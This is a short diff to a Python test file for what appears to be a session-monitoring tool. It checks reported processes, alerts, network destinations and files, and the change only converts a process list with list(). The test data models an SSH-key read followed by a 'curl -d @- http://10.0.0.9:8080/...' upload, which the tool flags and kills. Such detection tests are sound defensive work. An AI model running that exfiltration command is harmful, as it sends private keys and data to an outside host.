@@ -114,7 +114,7 @@ def test_model_of_a_session(session_log):
     assert curl.cmdline == "curl -d @- http://10.0.0.9:8080/<x>" and curl.exited == "signal 9"
     assert sh.alerts == ["ssh_key_read"]
     [dest, failed] = rep.destinations
-    assert (dest.label, dest.connects, dest.bytes_sent, dest.processes) == (
+    assert (dest.label, dest.connects, dest.bytes_sent, list(dest.processes)) == (
         "10.0.0.9:8080", 1, 4096, ["curl(12)"])
     assert (failed.label, failed.failed) == ("[2001:db8::1]:443", 1)
     assert list(rep.files_by_dir) == ["/workspace/build", "/workspace/src"]
